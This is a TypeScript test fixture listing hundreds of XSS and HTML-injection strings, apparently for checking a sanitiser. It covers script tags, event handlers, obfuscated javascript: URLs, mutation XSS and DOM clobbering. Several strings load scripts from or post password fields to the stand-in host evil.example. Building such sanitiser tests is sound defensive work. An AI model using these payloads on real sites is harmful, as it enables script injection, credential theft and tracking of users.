/** Payload of the hostile markup. Tests watch `window.__pwned`, dialogs, requests and policy reports. */
const RUN = 'window.__pwned=1';
const HOST = 'https://evil.example';

const scripts = [
  `<script>${RUN}</script>`,
  `<script src="//evil.example/x.js" defer></script>`,
  `<script type=module>import("${HOST}/x.js")</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/src=data:,${RUN}></script>`,
  `<script>${RUN}`,
  `</p></div></main><script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${HOST}/x.js"/></svg>`,
  `<math><script>${RUN}</script></math>`,
];

/** Elements whose event handlers fire on their own or on user interaction. */
const handlers = [
  `<img src=x onerror=${RUN}>`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror\n=\n${RUN}>`,
  `<img src=x \u000conerror=${RUN}>`,
  `<img src="x" "onerror=${RUN}">`,
  `<img src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=' onload=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<div onmouseover=${RUN}>hover</div>`,
  `<table onmouseenter=${RUN}><tr><td onfocus=${RUN} tabindex=0>cell</td></tr></table>`,
  `<a href="/About" onclick=${RUN}>page</a>`,
  `<a href="#x" onfocus=${RUN} autofocus>focus</a>`,
  `<details open ontoggle=${RUN}><summary>open</summary></details>`,
  `<video><source onerror=${RUN}></video>`,
  `<input autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>text</textarea>`,
  `<marquee onstart=${RUN} loop=1>moves</marquee>`,
  `<embed src=x onload=${RUN}>`,
  `<iframe onload=${RUN}></iframe>`,
  `<div style="animation:1s x" onanimationstart=${RUN}>moves</div>`,
  `<div contenteditable oninput=${RUN} onblur=${RUN}>write</div>`,
  `<xss onfocus=${RUN} tabindex=1 autofocus id=pwned>custom</xss>`,
  `<div onscrollend=${RUN} style="overflow:auto;height:9px">scroll</div>`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><image href=x onerror=${RUN}></image></svg>`,
  `<math onclick=${RUN}><mtext onmouseover=${RUN}>math</mtext></math>`,
];

/** Spellings of dangerous schemes that some browser has accepted. */
const schemes = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  `&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;${RUN}`,
  `&#0000106avascript:${RUN}`,
  `javascript://evil.example/%0a${RUN}`,
  `feed:javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `&#1;javascript:${RUN}`,
  `blob:${HOST}/1`,
  `filesystem:${HOST}/1`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `/\\evil.example/x`,
  `/\t/evil.example/x`,
  `/.//evil.example/x`,
  `https://portal.example@evil.example/x`,
];

const quoted = (value: string) => value.replaceAll('"', '&quot;');

/** Each scheme in a link and, in turn, in another element with an address attribute. */
const addresses = schemes.flatMap((scheme, index) => {
  const value = quoted(scheme);
  const others = [
    `<img src="${value}">`,
    `<img srcset="${value} 1x, ${value} 2x" src="a.png">`,
    `<area href="${value}" shape=default>`,
    `<table background="${value}"><tr><td background="${value}">cell</td></tr></table>`,
    `<blockquote cite="${value}">words</blockquote>`,
    `<a href="/About" ping="${value}">page</a>`,
    `<iframe src="${value}"></iframe>`,
    `<embed src="${value}">`,
    `<object data="${value}"></object>`,
    `<form action="${value}"><input type=submit value=press></form>`,
    `<button formaction="${value}">press</button>`,
    `<input type=image src="${value}" formaction="${value}">`,
    `<svg><a xlink:href="${value}"><text y=20>svg</text></a></svg>`,
    `<math href="${value}"><mi>math</mi></math>`,
    `<video poster="${value}"><source src="${value}"></video>`,
    `<link rel=stylesheet href="${value}">`,
    `<img longdesc="${value}" lowsrc="${value}" dynsrc="${value}" src="a.png">`,
    `<svg><use href="${value}"/></svg>`,
  ];
  return [`<a href="${value}">link</a>`, others[index % others.length] ?? ''];
});

/** Elements that load, rebase, restyle, refresh, frame or post. */
const loaders = [
  `<base href="${HOST}/">`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
  `<link rel=stylesheet href="${HOST}/x.css">`,
  `<link rel=import href="${HOST}/x.html">`,
  `<link rel=preload as=image href="${HOST}/x.png" onload=${RUN}>`,
  `<link rel=manifest href="${HOST}/x.json">`,
  `<style>body{background:url(${HOST}/x.png)}</style>`,
  `<style>@import "${HOST}/x.css";</style>`,
  `<p style="background:url(${HOST}/x.png)">text</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">over all</p>`,
  `<p style="width:expression(${RUN})">text</p>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<frameset><frame src="${HOST}"></frameset>`,
  `<object type="text/html" data="${HOST}"></object>`,
  `<object classid="clsid:0" codebase="${HOST}/x.cab"><param name=src value="${HOST}"></object>`,
  `<img src="${HOST}/pixel.gif">`,
  `<img srcset="${HOST}/pixel.gif 1x">`,
  `<picture><source srcset="${HOST}/pixel.gif"><img src=a.png></picture>`,
  `<input type=image src="${HOST}/pixel.gif">`,
  `<form action="${HOST}"><input name=password type=password><button>Log in</button></form>`,
  `<form id=pwnedform></form><button form=pwnedform formaction="${HOST}">press</button>`,
  `<a href="${HOST}" target=_self>same tab</a>`,
  `<a href="${HOST}" target=_blank rel=opener>with opener</a>`,
  `<a href="${HOST}" download>save</a>`,
  `<applet code=x></applet>`,
  `<portal src="${HOST}"></portal>`,
  `<bgsound src="javascript:${RUN}">`,
  `<layer src="${HOST}">text</layer>`,
  `<isindex action="javascript:${RUN}">`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<slot name=x>text</slot>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<dialog open>in the way</dialog>`,
  `<div popover=auto id=pwnedpop>over</div><button popovertarget=pwnedpop>press</button>`,
];

/** Markup whose meaning changes when it is serialised and parsed again (mutation XSS). */
const mutations = [
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math></p><style><!--</style><img src onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><style><img src onerror=${RUN}></style></annotation-xml></math>`,
  `<svg><title><style><img src onerror=${RUN}></style></title></svg>`,
  `<svg><desc><noscript><img src onerror=${RUN}></noscript></desc></svg>`,
  `<svg><foreignObject><p><style><!--</style><img src onerror=${RUN}>--></p></foreignObject></svg>`,
  `<svg><![CDATA[><img src onerror=${RUN}>]]></svg>`,
  `<noscript><p title="</noscript><img src onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src onerror=${RUN}>"></textarea>`,
  `<title><a title="</title><img src onerror=${RUN}>"></title>`,
  `<xmp><p title="</xmp><img src onerror=${RUN}>"></xmp>`,
  `<template><p title="</template><img src onerror=${RUN}>"></template>`,
  `<template shadowrootmode=open><img src onerror=${RUN}></template>`,
  `<select><style></select><img src onerror=${RUN}></style></select>`,
  `<table><tr><td><svg><style><img src onerror=${RUN}></style></svg></td></tr></table>`,
  `<p><table><p id="</table><img src onerror=${RUN}>">`,
  `<a title="&lt;/a&gt;&lt;img src onerror=${RUN}&gt;" href="/About">page</a>`,
  `<img alt="\`&gt;&lt;script&gt;${RUN}&lt;/script&gt;" src=a.png>`,
  `<p lang="&quot;&gt;&lt;img src onerror=${RUN}&gt;">text</p>`,
  `<!--- --!><img src onerror=${RUN}>`,
  `<!--[if true]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!DOCTYPE x [<!ENTITY e "<img src onerror=${RUN}>">]>&e;`,
  `</ <img src onerror=${RUN}>>`,
  `<p><b><i><a href=1><a href="javascript:${RUN}">nested</a></i></b></p>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`,
  `<svg><desc><![CDATA[</desc><img src onerror=${RUN}>]]></svg>`,
  `<h1 title="--><img src onerror=${RUN}>">text</h1>`,
  `<dl><dt><p><dd><svg><p><style><g title="</style><img src onerror=${RUN}>">`,
];

/** Characters on which parsers disagree, and texts that become markup when decoded. */
const characters = [
  `<img src=x\u0000 onerror=${RUN}>`,
  `<img\u00a0src=x onerror=${RUN}>`,
  `<img src=x on\u200berror=${RUN}>`,
  `＜img src=x onerror=${RUN}＞`,
  `\ufeff<img src=x onerror=${RUN}>`,
  `<img src="\ud83d" onerror=${RUN}>`,
  `<ſcript>${RUN}</ſcript>`,
  `<a href="ja\u00advascript:${RUN}">soft hyphen</a>`,
  `<a href="https://evil。example/x">dot</a>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\${${RUN}}`,
];

/** Names that clobber globals or properties used by scripts (DOM clobbering). */
const clobbering = [
  `<img name=getElementById src=a.png>`,
  `<a id=location href="${HOST}">location</a>`,
  `<form name=body><input name=firstChild></form>`,
  `<form id=pwned1><input name=attributes><input name=nodeName></form>`,
  `<a id=root name=root>root</a>`,
  `<div id=page-title class="root main header">title</div>`,
  `<iframe name=__pwned></iframe>`,
  `<a id=__FEDERATION__><a id=__FEDERATION__ name=entry href="${HOST}/x.js">entry</a>`,
  `<a id=__KALALAYA_FEDERATION__ href="${HOST}/x.js">runtime</a>`,
  `<p class="visually-hidden" data-testid=x aria-hidden=true role=alert>hidden</p>`,
  `<p slot=x part=y itemprop=z accesskey=s tabindex=9>attributes</p>`,
];

const deep = (open: string, close: string, count: number) => open.repeat(count) + close.repeat(count);

/** Deep nesting that can exhaust the stack of a parser or browser. */
const nesting = [
  `${deep('<div>', '</div>', 600)}<img src=x onerror=${RUN}>`,
  `${'<b><i>'.repeat(300)}<img src=x onerror=${RUN}>`,
  `${'<table><tr><td>'.repeat(200)}<img src=x onerror=${RUN}>`,
  `${'<svg><g>'.repeat(200)}<script>${RUN}</script>`,
  `${'<a href=1>'.repeat(400)}<img src=x onerror=${RUN}>`,
  `${'<'.repeat(3000)}script>${RUN}</script>`,
];

/** Markup that swallows everything after it; used only as the last string of a batch. */
export const swallowing: readonly string[] = [
  `<plaintext><img src=x onerror=${RUN}>`,
  `<!-- <img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}`,
  `<a href='javascript:${RUN}`,
  `<script>${RUN};<!--<script>`,
  `<style><img src=x onerror=${RUN}>`,
  `<textarea><img src=x onerror=${RUN}>`,
];

/** All hostile markup by family, except the strings that swallow their neighbours. */
export const families: Readonly<Record<string, readonly string[]>> = {
  scripts,
  handlers,
  addresses,
  loaders,
  mutations,
  characters,
  clobbering,
  nesting,
};

/** All hostile strings. */
export const hostileMarkup: readonly string[] = [...Object.values(families).flat(), ...swallowing];

/** All hostile strings except deep nesting, of which sanitisers keep only the text. */
export const shallowMarkup: readonly string[] = hostileMarkup.filter((text) => !nesting.includes(text));
